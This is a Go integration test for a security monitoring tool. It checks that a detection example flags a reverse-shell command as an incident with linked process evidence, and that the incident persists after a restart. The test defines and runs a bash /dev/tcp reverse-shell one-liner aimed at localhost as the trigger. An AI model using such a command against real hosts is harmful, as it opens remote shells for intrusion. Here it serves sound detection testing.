// SPDX-License-Identifier: Apache-2.0

//go:build linux

package examples

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/meerkat-otel/meerkat/internal/names"
)

// reverseShell is what the page says to run. Nothing listens there.
const reverseShell = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"

// The page's command is an incident, with its event, at once; after a restart it is known still.
func TestDetection(t *testing.T) {
	page, err := os.ReadFile("../../examples/detection/README.md")
	require.NoError(t, err)
	require.Contains(t, string(page), "bash -c '"+reverseShell+"'")
	binary, data := build(t), t.TempDir()
	e := start(t, "../../examples/detection/run.sh", binary, "MEERKAT_DATA="+data)
	file := filepath.Join(data, "incidents.json")
	require.Eventually(t, func() bool {
		_ = exec.Command("bash", "-c", reverseShell).Run() // it is refused
		return len(recordsIn(t, file, names.EventIncident)) > 0
	}, patience, 200*time.Millisecond, "no incident was told; it printed:\n%s", e.printed)
	incident := recordsIn(t, file, names.EventIncident)[0]
	rule, _ := incident.Attributes().Get(names.SecurityRuleName)
	assert.Equal(t, "Shell is tied to a connection of its own", rule.Str())
	evidence, _ := incident.Attributes().Get(names.IncidentEvidence)
	require.Positive(t, evidence.Slice().Len())
	id, _ := incident.Attributes().Get(names.IncidentID)
	found := false
	for _, event := range recordsIn(t, file, names.EventProcessExec) {
		uid, _ := event.Attributes().Get(names.LogRecordUID)
		arguments, _ := event.Attributes().Get(names.ProcessCommandArgs)
		found = found || uid.Str() == evidence.Slice().At(0).Str() && strings.Contains(arguments.AsString(), reverseShell)
	}
	assert.True(t, found, "the evidence of the incident is beside it")
	assert.Contains(t, incidentsOf(t), id.Str())
	e.end()
	assert.NotContains(t, strings.ToLower(e.printed.String()), "error")

	again := start(t, "../../examples/detection/run.sh", binary, "MEERKAT_DATA="+data)
	// Before that, Ctrl-C ends it without more ado.
	require.Eventually(t, func() bool { return strings.Contains(again.printed.String(), "Everything is ready") }, patience, 50*time.Millisecond)
	require.Eventually(t, func() bool { return len(incidentsOf(t)) > 0 }, patience, 200*time.Millisecond, "it is forgotten; it printed:\n%s",
		again.printed)
	assert.Contains(t, incidentsOf(t), id.Str())
	again.end()
}

// recordsIn returns the records of an event in a file of OTLP/JSON lines.
func recordsIn(t *testing.T, file, event string) []plog.LogRecord {
	t.Helper()
	var all []plog.LogRecord
	for _, logs := range logsOf(t, file) {
		for _, resource := range logs.ResourceLogs().All() {
			for _, scope := range resource.ScopeLogs().All() {
				for _, record := range scope.LogRecords().All() {
					if record.EventName() == event {
						all = append(all, record)
					}
				}
			}
		}
	}
	return all
}

// incidentsOf returns the ids of the incidents that the control API knows.
func incidentsOf(t *testing.T) []string {
	t.Helper()
	var page struct {
		Incidents []struct {
			ID string `json:"id"`
		} `json:"incidents"`
	}
	require.NoError(t, json.Unmarshal([]byte(getOver(t, controlSocket, "http://meerkat/v1/incidents")), &page))
	var ids []string
	for _, incident := range page.Incidents {
		ids = append(ids, incident.ID)
	}
	return ids
}
